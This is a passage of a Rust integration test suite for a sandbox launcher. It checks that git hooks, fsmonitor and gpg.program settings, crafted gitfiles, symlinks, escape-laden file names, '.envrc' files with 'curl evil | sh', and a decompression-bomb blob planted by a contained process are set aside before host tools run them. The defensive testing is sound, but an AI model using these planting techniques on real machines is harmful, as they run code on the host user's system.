         bad=$(git commit-tree -m bad $tree); git update-ref refs/heads/abad $bad; \
         git switch -q -c zgood; git commit -q --allow-empty -m good; echo MADE",
    );
    assert!(ok(&o).contains("MADE"), "{}", show(&o));
    let branches = git(h, &["branch", "--list", "cell/*"]);
    assert!(branches.contains("cell/default/zgood"), "the good branch came over: {branches}\n{}", show(&o));
    assert!(!branches.contains("cell/default/abad"), "{branches}");
    assert!(stderr_has(&o, "refused abad"), "{}", show(&o));
    let s = h.run(["git", "sync"]);
    assert!(s.status.success(), "a later sync is not held up: {}", show(&s));
});

both!(what_root_or_the_user_includes_from_the_worktree_is_held, |h| {
    // The launching user's global git config includes a file of the worktree (a shared
    // project config): host git reads it, so the cell may not write it.
    repo(h);
    let inc = h.work.join(".hostinc");
    std::fs::write(h.home.join(".gitconfig"), format!("[include]\n\tpath = {}\n", inc.display())).expect("write");
    h.chown_all();
    let o = cell_sh(h, "printf '[core]\\n\\tpager = touch .marker-inc\\n' > .hostinc; echo DONE");
    assert!(ok(&o).contains("DONE"), "{}", show(&o));
    assert!(!exists(&inc), "the included file the cell wrote stayed in place: {}", show(&o));
});

both!(a_protected_path_the_cell_creates_is_set_aside_while_it_runs, |h| {
    // Not only at exit: host tools running meanwhile (direnv, an editor) must not find it.
    let o = cell_sh(h, "echo 'curl evil | sh' > .envrc; sleep 0.5; test -e .envrc && echo STILL-THERE; ls -a | grep -c cell-quarantined");
    let out = ok(&o);
    assert!(!out.contains("STILL-THERE"), "the cell's .envrc stayed while it ran: {}", show(&o));
    assert!(out.trim().ends_with('1'), "set aside once: {}", show(&o));
});

both!(a_worktree_the_cell_closed_still_has_its_planted_files_set_aside, |h| {
    // The cell takes the search permission from the worktree's top (or leaves it readable
    // but not searchable) after planting: a launcher that took "cannot look" for "absent"
    // would leave every file in place where direnv, editors and agents read it.
    for mode in ["000", "600"] {
        let o = cell_sh(
            h,
            &format!(
                "echo 'curl evil | sh' > .envrc; mkdir .vscode; echo '{{}}' > .vscode/tasks.json; \
                 echo '{{}}' > .mcp.json; chmod {mode} . ; echo PLANTED"
            ),
        );
        assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
        let m = std::fs::metadata(&h.work).expect("stat worktree");
        assert_eq!(std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o700, 0o700, "owner access back");
        for p in [".envrc", ".vscode", ".mcp.json"] {
            assert!(!exists(&h.work.join(p)), "chmod {mode}: {p} stayed where host tools read it: {}", show(&o));
        }
        assert!(stderr_has(&o, "set aside"), "{}", show(&o));
        for e in std::fs::read_dir(&h.work).expect("read").flatten() {
            let _ = std::fs::remove_dir_all(e.path()).or_else(|_| std::fs::remove_file(e.path()));
        }
    }
});

both!(a_repository_under_a_directory_that_cannot_be_searched_is_set_aside, |h| {
    // `chmod 600`: the names in `sub` can be read, nothing under them can be looked at.
    let marker = h.path("marker-600-fsm");
    let o = cell_sh(
        h,
        &format!(
            "mkdir -p sub/inner && git -C sub/inner init -q && git -C sub/inner config core.fsmonitor 'touch {m}' && \
             chmod 600 sub && echo PLANTED",
            m = marker.display()
        ),
    );
    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
    assert!(!exists(&h.work.join("sub/inner/.git")), "the planted repository stayed: {}", show(&o));
    host_git_runs_nothing(h, &h.work.join("sub/inner"), &marker, &o);
});

both!(the_worktree_top_made_into_a_repository_is_set_aside, |h| {
    // A worktree below the host repository's top has no `.git` of its own: `HEAD`,
    // `objects/`, `refs/` and a `config` made there turn the directory itself into the
    // repository host git finds first.
    repo(h);
    let sub = h.work.join("deeper");
    std::fs::create_dir_all(&sub).expect("mkdir");
    h.chown_all();
    let marker = h.path("marker-top-fsm");
    let script = format!(
        "git init -q --bare /tmp/b && cp -r /tmp/b/HEAD /tmp/b/objects /tmp/b/refs . && \
         printf '[core]\\n\\tbare = false\\n\\tworktree = %s\\n\\tfsmonitor = touch {m}\\n' \"$PWD\" > config && echo PLANTED",
        m = marker.display()
    );
    let o = cell_sh_in(h, &sub, &script);
    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
    assert!(!exists(&sub.join("HEAD")), "the worktree kept the HEAD that makes it a repository: {}", show(&o));
    host_git_runs_nothing(h, &sub, &marker, &o);
});

both!(a_hooks_path_is_read_only_in_a_linked_worktree_too, |h| {
    // In a `git worktree add` checkout `.git` is a `gitdir:` file: the hooks path comes from
    // the main repository's config, which host git reads there as well.
    repo(h);
    std::fs::create_dir_all(h.work.join(".husky/_")).expect("mkdir");
    std::fs::write(h.work.join(".husky/_/pre-commit"), "#!/bin/sh\nexit 0\n").expect("write");
    h.chown_all();
    git(h, &["add", ".husky"]);
    git(h, &["commit", "-qm", "hooks"]);
    git(h, &["config", "core.hooksPath", ".husky/_"]);
    let linked = h.path("linked");
    git(h, &["worktree", "add", "-q", linked.to_str().expect("utf8")]);
    h.chown_all();
    let o = cell_sh_in(
        h,
        &linked,
        "echo 'touch .marker-husky' >> .husky/_/pre-commit 2>/dev/null && echo WROTE; \
             echo x > .husky/_/post-commit 2>/dev/null && echo WROTE2; true",
    );
    assert!(!ok(&o).contains("WROTE"), "the cell wrote the hooks host git runs: {}", show(&o));
    assert_eq!(std::fs::read_to_string(linked.join(".husky/_/pre-commit")).expect("read"), "#!/bin/sh\nexit 0\n");
});

/// The host directory of the cell's home, as `cell plan --json` names it.
fn cell_home(h: &Host) -> std::path::PathBuf {
    let o = h.run(["plan", "--json", "--network", "none", "--", "true"]);
    let plan: serde_json::Value = serde_json::from_str(&ok(&o)).expect("plan json");
    plan["home"].as_str().expect("home").into()
}

both!(a_gitfile_read_as_git_reads_it_leads_nowhere_the_cell_made, |h| {
    // `gitdir:  h` (two spaces): git keeps the leading space, so `h` (a link to the host's
    // `.git/modules`) is what a trimmed reading follows, ` h` (a link to a repository in the
    // cell's home) what git follows.
    repo(h);
    let home = cell_home(h);
    let marker = h.path("marker-gitfile-fsm");
    let script = format!(
        "git init -q --bare \"$HOME/evilgit\" && git --git-dir=\"$HOME/evilgit\" config core.bare false && \
         git --git-dir=\"$HOME/evilgit\" config core.fsmonitor 'touch {m}; false' && \
         mkdir x && cd x && ln -s ../.git/modules h && ln -s {home}/evilgit ' h' && printf 'gitdir:  h\\n' > .git && echo PLANTED",
        m = marker.display(),
        home = home.display()
    );
    let o = cell_sh(h, &script);
    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
    host_git_runs_nothing(h, &h.work.join("x"), &marker, &o);
    assert!(!exists(&h.work.join("x/.git")), "the gitfile stayed: {}", show(&o));
});

both!(a_gitfile_that_reaches_the_hosts_modules_through_a_link_is_set_aside, |h| {
    // Two gitfiles the launcher once kept for a submodule's: one whose path leads into the
    // host's `.git/modules` through a link in the cell's home (the cell can point it
    // elsewhere once the exit is done); one that adds a NUL, so the launcher read `L` and git
    // reads `L` and a newline: a repository of the cell's, in its home, that the exit scan
    // never looks at. Each of those repositories checks signatures with the cell's program.
    repo(h);
    let home = cell_home(h);
    let marker = h.path("marker-gitfile-nul");
    let modules = h.work.join(".git/modules/sub");
    let evil = |dir: &str| {
        format!(
            "git init -q --bare \"{dir}\" && git --git-dir=\"{dir}\" config core.bare false && \
             git --git-dir=\"{dir}\" config core.fsmonitor 'touch {m}; false' && \
             git --git-dir=\"{dir}\" config gpg.program \"$HOME/p.sh\" && \
             git --git-dir=\"{dir}\" config log.showSignature true && ",
            m = marker.display()
        )
    };
    let script = format!(
        "printf '#!/bin/sh\\ntouch {m}\\n' > \"$HOME/p.sh\" && chmod 755 \"$HOME/p.sh\" && \
         ln -s {modules} \"$HOME/L\" && G=$(printf '%s/L\\n_' \"$HOME\") && G=${{G%_}} && {e}mkdir a b && \
         printf 'gitdir: %s/L\\n\\0' {home} > a/.git && printf 'gitdir: %s/L\\n' {home} > b/.git && echo PLANTED",
        m = marker.display(),
        modules = modules.display(),
        e = evil("$G"),
        home = home.display()
    );
    let o = cell_sh(h, &script);
    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
    for d in ["a", "b"] {
        assert!(!exists(&h.work.join(d).join(".git")), "{d}/.git stayed: {}", show(&o));
        host_git_runs_nothing(h, &h.work.join(d), &marker, &o);
        let _ = h.cell().current_dir(h.work.join(d)).args(["git", "log"]).output().expect("cell git log");
        assert!(!exists(&marker), "cell git log in {d} ran what the cell planted: {}", show(&o));
    }
});

both!(cell_git_never_reads_a_repository_a_running_cell_could_have_made, |h| {
    // While a cell runs, it makes a repository in a subdirectory of its worktree, with a
    // branch of the cell's name, a signed commit on it and its own program to check
    // signatures. The user asks `cell git` about the cell's work from that subdirectory
    // (in a monorepo, where they would be): refused, the program never runs; from the top
    // (whose `.git` the cell cannot write) it answers.
    repo(h);
    let marker = h.path("marker-live-nested");
    let started = h.work.join("started");
    let stop = h.work.join("stop");
    let script = format!(
        "mkdir nested && cd nested && git init -q -b main && git config user.name c && git config user.email c@x && \
         printf '#!/bin/sh\\ntouch {m}\\nexit 1\\n' > ../p.sh && chmod 755 ../p.sh && \
         git config gpg.program \"$PWD/../p.sh\" && git config log.showSignature true && \
         git config core.fsmonitor \"$PWD/../p.sh\" && echo x > x && git add x && git commit -qm base && \
         t=$(git rev-parse HEAD^{{tree}}) && p=$(git rev-parse HEAD) && \
         c=$(printf 'tree %s\\nparent %s\\nauthor c <c@x> 1 +0000\\ncommitter c <c@x> 1 +0000\\ngpgsig -----BEGIN PGP SIGNATURE-----\\n x\\n -----END PGP SIGNATURE-----\\n\\nsigned\\n' $t $p | git hash-object -t commit -w --stdin) && \
         git update-ref refs/heads/cell/default/main $c && cd .. && touch started && \
         while [ ! -e stop ]; do sleep 0.1; done",
        m = marker.display()
    );
    let mut child = h.cell().args(["run", "--network", "none", "--", "sh", "-c", &script]).spawn().expect("cell");
    wait_for(&started);
    let nested = h.work.join("nested");
    for args in [&["git", "log"][..], &["git", "diff", "main"], &["git", "merge", "main"]] {
        let o = h.cell().current_dir(&nested).args(args).output().expect("cell git");
        assert_eq!(o.status.code(), Some(2), "{args:?} read the running cell's repository: {}", show(&o));
        assert!(stderr(&o).contains("still running"), "{}", show(&o));
    }
    let top = h.run(["git", "log"]);
    assert!(top.status.success(), "{}", show(&top));
    // Nor does a merge move the index under the running cell (it could bring a gitlink the
    // launch does not hold, where the cell makes a repository).
    let merge = h.run(["git", "merge"]);
    assert_eq!(merge.status.code(), Some(2), "merged while the cell ran: {}", show(&merge));
    assert!(stderr(&merge).contains("still runs"), "{}", show(&merge));
    std::fs::write(&stop, "").expect("stop");
    h.chown_all();
    assert!(child.wait().expect("wait").success());
    assert!(!exists(&marker), "host git ran the running cell's program");
    // Once the cell has ended its repository is set aside: nothing of it is read later.
    assert!(!exists(&nested.join(".git")), "the repository the cell made stayed");
    let _ = h.cell().current_dir(&nested).args(["git", "log"]).output().expect("cell git log");
    assert!(!exists(&marker), "host git ran the cell's program after it ended");
});

both!(a_link_to_where_a_refused_git_directory_is_kept_is_set_aside, |h| {
    // The cell's git directory, refused (its alternates changed), is kept after the exit
    // scan as `git/refused-<its name>`, a name the cell can tell: a link made in advance
    // leads nowhere while the scan runs, and into the cell's own configuration afterwards.
    repo(h);
    let o = h.run(["plan", "--json", "--network", "none", "--", "true"]);
    let plan: serde_json::Value = serde_json::from_str(&ok(&o)).expect("plan json");
    let git_dir = std::path::PathBuf::from(plan["stateDir"].as_str().expect("stateDir")).join("git");
    let script = format!(
        "B=$(awk -v w=\"$PWD/.git\" '$5==w {{print $4}}' /proc/self/mountinfo) && B=${{B##*/}} && [ -n \"$B\" ] && \
         git commit -q --allow-empty -m work && echo /nonexistent > .git/objects/info/alternates && \
         ln -s {d}/refused-$B/w src && ln -s {d}/refused-$B/../refused-$B/w src2 && echo PLANTED",
        d = git_dir.display()
    );
    let o = cell_sh(h, &script);
    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
    assert!(stderr(&o).contains("alternates"), "the store was not refused: {}", show(&o));
    let kept = std::fs::read_dir(&git_dir)
        .expect("git dir")
        .flatten()
        .any(|e| e.file_name().to_string_lossy().starts_with("refused-"));
    assert!(kept, "no refused directory was kept: {}", show(&o));
    for link in ["src", "src2"] {
        assert!(std::fs::symlink_metadata(h.work.join(link)).is_err(), "{link} stayed: {}", show(&o));
    }
});

both!(names_the_cell_chose_reach_the_terminal_escaped, |h| {
    // A FIFO in the object store is refused by name: the name is the cell's, and the exit
    // report would carry its escape sequences (a window title, an erased line, a fake
    // message) to the user's terminal after the cell's own was reset.
    repo(h);
    let o = cell_sh(
        h,
        "git commit -q --allow-empty -m x && mkfifo \".git/objects/$(printf 'a\\033]0;OWNED\\007\\033[2K\\rfake')\" && echo PLANTED",
    );
    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
    assert!(stderr(&o).contains("not a file"), "the store was not refused: {}", show(&o));
    assert!(!o.stderr.contains(&0x1b) && !o.stderr.contains(&0x07), "raw control bytes in the report: {}", show(&o));
    assert!(stderr(&o).contains("\\x1b]0;OWNED"), "the name is not shown escaped: {}", show(&o));
});

both!(a_link_into_the_cells_home_is_set_aside, |h| {
    // The cell's home is writable by the cell and lies on the host: a link to it from the
    // worktree would have host tools (a shell's cd, git, direnv) read what the cell left there.
    let home = cell_home(h);
    let marker = h.path("marker-homelink-fsm");
    let script = format!(
        "mkdir -p \"$HOME/evil\" && git -C \"$HOME/evil\" init -q && \
         git -C \"$HOME/evil\" config core.fsmonitor 'touch {m}; false' && ln -s {home}/evil src && \
         ln -s /usr/share doc && echo PLANTED",
        m = marker.display(),
        home = home.display()
    );
    let o = cell_sh(h, &script);
    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
    host_git_runs_nothing(h, &h.work.join("src"), &marker, &o);
    assert!(std::fs::symlink_metadata(h.work.join("src")).is_err(), "the link stayed: {}", show(&o));
    // A link to a host directory the cell cannot write stays.
    assert!(std::fs::symlink_metadata(h.work.join("doc")).is_ok_and(|m| m.file_type().is_symlink()));
});

both!(a_link_in_a_protected_paths_way_goes_aside_and_nothing_outside_moves, |h| {
    // `core.hooksPath = tools/git/hooks` with no `tools/` yet: the cell makes `tools` a link
    // to a directory outside the worktree. The link goes aside; what it pointed to is
    // neither renamed nor opened up.
    repo(h);
    let victim = h.path("victim");
    std::fs::create_dir_all(victim.join("git/hooks")).expect("mkdir");
    std::fs::write(victim.join("git/hooks/important"), "precious\n").expect("write");
    h.chown_all();
    std::fs::set_permissions(victim.join("git"), std::os::unix::fs::PermissionsExt::from_mode(0o500)).expect("chmod");
    git(h, &["config", "core.hooksPath", "tools/git/hooks"]);
    let o = cell_sh(h, &format!("ln -s {} tools && sleep 0.3 && echo LINKED", victim.display()));
    assert!(ok(&o).contains("LINKED"), "{}", show(&o));
    assert!(victim.join("git/hooks/important").exists(), "the launcher moved a directory outside the worktree");
    let mode = std::fs::metadata(victim.join("git")).expect("stat").permissions();
    assert_eq!(
        std::os::unix::fs::PermissionsExt::mode(&mode) & 0o777,
        0o500,
        "the launcher opened up a directory outside"
    );
    assert!(std::fs::symlink_metadata(h.work.join("tools")).is_err(), "the link to outside stayed: {}", show(&o));
    std::fs::set_permissions(victim.join("git"), std::os::unix::fs::PermissionsExt::from_mode(0o700)).expect("chmod");
});

both!(a_worktree_below_the_repository_top_holds_what_its_config_names, |h| {
    // A monorepo: the cell runs in `frontend/`, the repository's config names a hooks path
    // and an fsmonitor script (handed to sh) inside it.
    repo(h);
    let front = h.work.join("frontend");
    std::fs::create_dir_all(front.join(".husky/_")).expect("mkdir");
    std::fs::create_dir_all(front.join("tools")).expect("mkdir");
    std::fs::write(front.join(".husky/_/pre-commit"), "#!/bin/sh\nexit 0\n").expect("write");
    std::fs::write(front.join("tools/fsmon.sh"), "exit 0\n").expect("write");
    h.chown_all();
    git(h, &["add", "frontend"]);
    git(h, &["commit", "-qm", "frontend"]);
    git(h, &["config", "core.hooksPath", "frontend/.husky/_"]);
    git(h, &["config", "core.fsmonitor", "sh frontend/tools/fsmon.sh"]);
    // The plan holds both (read-only where they exist).
    let plan = h
        .cell()
        .current_dir(&front)
        .args(["plan", "--json", "--network", "none", "--", "true"])
        .output()
        .expect("plan");
    let plan: serde_json::Value = serde_json::from_str(&ok(&plan)).expect("plan json");
    let held: Vec<String> = plan["protected"]
        .as_array()
        .expect("protected")
        .iter()
        .filter(|p| p["how"] == "read-only")
        .filter_map(|p| p["path"].as_str().map(str::to_owned))
        .collect();
    for want in [".husky", "tools/fsmon.sh"] {
        let full = front.join(want);
        assert!(held.iter().any(|p| Path::new(p) == full), "{want} is not held: {held:?}");
    }
    let o = cell_sh_in(
        h,
        &front,
        "echo 'touch .marker' >> .husky/_/pre-commit 2>/dev/null && echo WROTE-HOOK; \
             echo 'touch .marker' >> tools/fsmon.sh 2>/dev/null && echo WROTE-FSMON; true",
    );
    let out = ok(&o);
    assert!(!out.contains("WROTE-HOOK") && !out.contains("WROTE-FSMON"), "{}", show(&o));
    assert_eq!(std::fs::read_to_string(front.join("tools/fsmon.sh")).expect("read"), "exit 0\n");
});

both!(a_huge_gitfile_does_not_stop_the_containment, |h| {
    // A sparse 1 GiB `.git` file: read whole, it would take the launcher a gigabyte (here
    // more than it may have) before anything is set aside; read as git reads a gitfile, it
    // costs nothing, and the repository planted beside it goes aside as usual.
    use std::os::unix::process::CommandExt as _;
    repo(h);
    let marker = h.path("marker-huge-fsm");
    let script = format!(
        "mkdir evil && git -C evil init -q && git -C evil config core.fsmonitor 'touch {m}; false' && \
         mkdir big && truncate -s 1G big/.git && echo PLANTED",
        m = marker.display()
    );
    let mut cmd = h.cell();
    cmd.args(["run", "--network", "none", "--", "sh", "-c", &script]);
    // SAFETY: setrlimit is async-signal-safe.
    unsafe {
        cmd.pre_exec(|| {
            // The soft limit only: the launcher raises it for the cell's own processes.
            let (_, hard) = nix::sys::resource::getrlimit(nix::sys::resource::Resource::RLIMIT_DATA)?;
            nix::sys::resource::setrlimit(nix::sys::resource::Resource::RLIMIT_DATA, 512 << 20, hard)?;
            Ok(())
        });
    }
    let o = cmd.output().expect("run");
    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
    assert!(!exists(&h.work.join("evil/.git")), "the planted repository stayed: {}", show(&o));
    host_git_runs_nothing(h, &h.work.join("evil"), &marker, &o);
});

/// The launcher seeds the cell's view of the repository while bubblewrap builds the cell;
/// when that fails, the command must not run at all (cell-init waits for the launcher's go).
/// As the user only: a root launcher reads the unreadable index anyway.
#[test]
fn a_cell_whose_repository_view_cannot_be_prepared_runs_nothing() {
    use std::os::unix::fs::PermissionsExt as _;
    let Some(h) =
        Host::new(crate::support::Who::User, "a_cell_whose_repository_view_cannot_be_prepared_runs_nothing::as_user")
    else {
        return;
    };
    repo(&h);
    // A branch the view copies and nothing before the launch reads.
    let index = h.work.join(".git/refs/heads/side");
    std::fs::set_permissions(&index, std::fs::Permissions::from_mode(0o000)).expect("chmod");
    let o = cell_sh(&h, "touch ran; echo RAN");
    std::fs::set_permissions(&index, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    assert_eq!(o.status.code(), Some(125), "{}", show(&o));
    assert!(stderr_has(&o, "cannot prepare the cell's view of the repository"), "{}", show(&o));
    assert!(!String::from_utf8_lossy(&o.stdout).contains("RAN") && !exists(&h.work.join("ran")), "{}", show(&o));
    // The next launch works, and removes what the failed one left.
    assert!(ok(&cell_sh(&h, "git status --short; echo OK")).contains("OK"));
}

/// The host directory of the cell's private git directories (the parent of this plan's).
fn git_state(h: &Host) -> std::path::PathBuf {
    let o = h.run(["plan", "--json", "--network", "none", "--", "true"]);
    let plan: serde_json::Value = serde_json::from_str(&ok(&o)).expect("plan json");
    let private: std::path::PathBuf = plan["git"]["private"].as_str().expect("private").into();
    private.parent().expect("parent").to_owned()
}

fn entries_starting(dir: &Path, prefix: &str) -> Vec<String> {
    std::fs::read_dir(dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .filter(|n| n.starts_with(prefix))
                .collect()
        })
        .unwrap_or_default()
}

both!(a_directory_the_cell_locked_in_its_git_directory_goes_with_the_next_launch, |h| {
    repo(h);
    ok(&cell_sh(
        h,
        "mkdir -p .git/junk/locked && head -c 100000 /dev/zero > .git/junk/locked/f && chmod 0 .git/junk/locked",
    ));
    ok(&cell_sh(h, "true"));
    // The second launch took the first's directory and moved the junk out for its sweep;
    // its own directory waits as the spare for the next, without the junk.
    let state = git_state(h);
    let left: Vec<String> =
        entries_starting(&state, "discarded-").into_iter().filter(|n| state.join(n).is_dir()).collect();
    assert!(left.is_empty(), "{left:?}");
    let spares = entries_starting(&state, "spare-");
    assert_eq!(spares.len(), 1, "{spares:?}");
    assert!(!state.join(&spares[0]).join("junk").exists());
});

both!(a_deep_read_only_tree_in_git_neither_hangs_nor_stays, |h| {
    // Deeper than the removal descends with descriptors, every level read-only: moving a
    // directory up needs write access to it. The next launch must end (its exit waits for
    // the sweep) and the one after find nothing left.
    repo(h);
    ok(&cell_sh(
        h,
        "cd .git && mkdir junk && cd junk && p=.; l=''; for i in $(seq 1 60); do p=$p/d; mkdir $p; l=\"$p $l\"; done; \
         chmod 0500 $l",
    ));
    for _ in 0..2 {
        let mut child = h
            .cell()
            .args(["run", "--network", "none", "--", "true"])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("spawn");
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
        let status = loop {
            if let Some(s) = child.try_wait().expect("wait") {
                break Some(s);
            }
            if std::time::Instant::now() > deadline {
                let _ = child.kill();
                let _ = child.wait();
                break None;
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        };
        assert!(status.is_some_and(|s| s.success()), "the launch hung or failed: {status:?}");
    }
    let state = git_state(h);
    let left: Vec<String> =
        entries_starting(&state, "discarded-").into_iter().filter(|n| state.join(n).is_dir()).collect();
    assert!(left.is_empty(), "{left:?}");
});

both!(what_a_launch_plants_in_its_git_directory_is_gone_in_the_next, |h| {
    // The next launch of the cell reuses the ended one's private directory: it must find in
    // it exactly a fresh view of the host repository, and nothing the cell left there may
    // make the launcher write outside it.
    repo(h);
    let outside = h.path("outside-file");
    std::fs::write(&outside, "host data\n").expect("write");
    h.chown_all();
    let o = cell_sh(
        h,
        &format!(
            "{PLANT}\nset -e; git branch stray; echo junk > .git/objects/junk; mkfifo .git/packed-refs.new; \
             rm -f .git/HEAD; ln -s {o} .git/HEAD; rm -f .git/config; mkfifo .git/config; \
             ln .git/index .git/index.second; echo DONE; chmod 0300 .git",
            o = outside.display()
        ),
    );
    assert!(ok(&o).contains("DONE"), "{}", show(&o));
    let state = git_state(h);
    assert_eq!(entries_starting(&state, "spare-").len(), 1, "the ended launch left no spare");
    // The next launch (in that directory) sees the host repository as it is, nothing planted.
    let o = cell_sh(
        h,
        "set -e; ls -A .git/hooks 2>/dev/null | grep -v sample || true; echo ==; git config --list --local; echo ==; \
         git branch --format='%(refname:short)'; echo ==; ls -A .git/objects; echo ==; git status --short; echo OK",
    );
    let out = ok(&o);
    assert!(out.trim_end().ends_with("OK"), "{}", show(&o));
    let parts: Vec<&str> = out.split("==\n").collect();
    assert!(parts[0].trim().is_empty(), "hooks of the last launch: {out}");
    assert!(!parts[1].contains(".marker") && !parts[1].contains("hookspath"), "its config: {out}");
    let host_branches = git(h, &["branch", "--format=%(refname:short)"]);
    assert_eq!(parts[2], host_branches, "the host's branches, no other: {out}");
    assert_eq!(parts[3].split_whitespace().collect::<Vec<_>>(), ["info"], "{out}");
    assert_eq!(std::fs::read_to_string(&outside).expect("read"), "host data\n", "written through a link");
});

both!(an_object_directory_the_host_cannot_list_is_refused, |h| {
    // git opens known names in a directory it cannot list: a FIFO hidden there would hang
    // host git on the way over.
    repo(h);
    let o = cell_sh(
        h,
        "set -e; git checkout -qb g1 main; echo g1 > g1; git add g1; git commit -qm g1; id=$(git rev-parse HEAD); \
         git checkout -q main; d=.git/objects/$(echo $id | cut -c1-2); f=$(echo $id | cut -c3-); \
         rm -f $d/$f; mkfifo $d/$f; chmod 111 $d",
    );
    assert!(stderr_has(&o, "cannot be listed"), "{}", show(&o));
    assert!(git(h, &["branch", "--list", "cell/*"]).trim().is_empty());
    // Let the test's clean-up in.
    let _ = Command::new("chmod").args(["-R", "u+rwx"]).arg(git_state(h)).status();
});

both!(a_running_cell_is_not_synced_until_it_ends, |h| {
    // While the cell runs it could change what host git reads in its directory (its
    // alternates) between the check and the reading: `cell git sync` waits for the end.
    repo(h);
    let started = h.work.join("started");
    let stop = h.work.join("stop");
    let mut child = h
        .cell()
        .args(["run", "--network", "none", "--", "sh", "-c"])
        .arg(
            "git checkout -qb live main && echo l > l && git add l && git commit -qm live && touch started && \
             while [ ! -e stop ]; do sleep 0.1; done",
        )
        .spawn()
        .expect("cell");
    wait_for(&started);
    let s = ok(&h.run(["git", "sync"]));
    assert!(s.contains("still runs"), "{s}");
    assert!(git(h, &["branch", "--list", "cell/*"]).trim().is_empty(), "synced while it ran");
    std::fs::write(&stop, "").expect("stop");
    h.chown_all();
    assert!(child.wait().expect("wait").success());
    assert!(git(h, &["branch", "--list", "cell/*"]).contains("cell/default/live"));
});

both!(a_refused_object_store_is_refused_once_and_blocks_no_later_sync, |h| {
    repo(h);
    let o = cell_sh(
        h,
        "git checkout -qb feat main && echo x > g && git add g && git commit -qm feat && \
         ln -s /etc/passwd .git/objects/info/x",
    );
    assert!(stderr_has(&o, "not a file") && stderr_has(&o, "kept at"), "{}", show(&o));
    let again = h.run(["git", "sync"]);
    assert!(again.status.success(), "{}", show(&again));
    assert!(ok(&again).contains("nothing to bring over"), "{}", show(&again));
    assert!(git(h, &["branch", "--list", "cell/*"]).trim().is_empty());
});

both!(one_deadline_holds_for_the_whole_sync, |h| {
    // A blob of 1 GiB of zeros (1 MB on disk) that host git must inflate to copy, reached
    // from three branches: each would take the whole limit; the first one uses it up.
    repo(h);
    let script = r#"set -e
id=$(python3 -c '
import hashlib, os, zlib
n = 1 << 30
head = b"blob %d\0" % n
h, c = hashlib.sha1(head), zlib.compressobj(1)
out = [c.compress(head)]
z = bytes(1 << 24)
for _ in range(n >> 24):
    h.update(z)
    out.append(c.compress(z))
out.append(c.flush())
i = h.hexdigest()
os.makedirs(".git/objects/" + i[:2], exist_ok=True)
open(".git/objects/" + i[:2] + "/" + i[2:], "wb").write(b"".join(out))
print(i)')
tree=$(printf '100644 blob %s\tbig\n' "$id" | git mktree)
for b in bomb0 bomb1 bomb2; do git branch "$b" "$(git commit-tree -m "$b" "$tree")"; done
"#;
    let o = h
        .cell()
        .env("CELL_SYNC_TIMEOUT_SECS", "2")
        .args(["run", "--network", "none", "--", "sh", "-c", script])
        .output()
        .expect("run");
    assert!(o.status.success(), "{}", show(&o));
    assert!(stderr_has(&o, "refused bomb0: git could not copy its objects within the sync's 2 s"), "{}", show(&o));
    assert!(stderr_has(&o, "not tried bomb1") && stderr_has(&o, "not tried bomb2"), "{}", show(&o));
    assert!(git(h, &["branch", "--list", "cell/*"]).trim().is_empty());
});

both!(a_git_worktree_below_the_home_leaves_no_mount_point_behind, |h| {
    // A git worktree below the home's path: its mount point is a directory bubblewrap makes
    // in the cell home. At the end it leaves the home (set aside in the cell's private git
    // directory: a rename, not a removal), and the next launch removes what was set aside.
    let work = h.home.join("g/proj");
    std::fs::create_dir_all(&work).expect("mkdir");
    h.chown_all();
    for args in
        [&["init", "-q", "-b", "main"][..], &["config", "user.name", "U"], &["config", "user.email", "u@x.test"]]
    {
        assert!(git_in(h, &work, args).status.success());
    }
    std::fs::write(work.join("f"), "1\n").expect("write");
    h.chown_all();
    assert!(git_in(h, &work, &["add", "."]).status.success());
    assert!(git_in(h, &work, &["commit", "-qm", "c1"]).status.success());
    let home = cell_home(h);
    ok(&cell_sh_in(h, &work, "git status --short; cat f"));
    assert!(!home.join("g").exists(), "the launch left its mount points in the cell home");
    let state_git = || -> Vec<String> {
        let o = h.cell().current_dir(&work).args(["plan", "--json", "--", "true"]).output().expect("plan");
        let plan: serde_json::Value = serde_json::from_str(&ok(&o)).expect("plan json");
        let dir = std::path::PathBuf::from(plan["stateDir"].as_str().expect("stateDir")).join("git");
        std::fs::read_dir(dir)
            .map(|d| d.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect())
            .unwrap_or_default()
    };
    let aside: Vec<String> = state_git().into_iter().filter(|n| n.starts_with("discarded-home-")).collect();
    assert_eq!(aside.len(), 2, "g/proj, then g, set aside: {aside:?}");
    ok(&cell_sh_in(h, &work, "true"));
    let left: Vec<String> = state_git().into_iter().filter(|n| aside.contains(n)).collect();
    assert!(left.is_empty(), "the next launch did not remove what was set aside: {left:?}");
    assert!(!home.join("g").exists());
});

both!(records_an_ended_launch_set_aside_go_with_the_next_launch, |h| {
    // A launch in a git worktree renames its records aside at the end (the view's sync
    // record, the containment record, the live record); the next launch's sweep removes them.
    repo(h);
    let state = git_state(h);
    let set_aside = || -> Vec<String> {
        entries_starting(&state, "discarded-").into_iter().filter(|n| !state.join(n).is_dir()).collect()
    };
    // The pid of the launch that set a record aside: `discarded-<pid>...`.
    let pids = |names: &[String]| -> std::collections::BTreeSet<String> {
        names.iter().map(|n| n["discarded-".len()..].split(['-', '.']).next().unwrap_or_default().to_owned()).collect()
    };
    ok(&cell_sh(h, "true"));
    let after_one = set_aside();
    // The sync and containment records (and the live record, when it was written: a cell
    // that ends at once may be gone before its launcher records it).
    assert!((2..=3).contains(&after_one.len()), "{after_one:?}");
    ok(&cell_sh(h, "true"));
    ok(&cell_sh(h, "true"));
    let after_three = set_aside();
    assert!((2..=3).contains(&after_three.len()), "set-aside records pile up: {after_three:?}");
    assert_eq!(pids(&after_three).len(), 1, "records of more than the last launch: {after_three:?}");
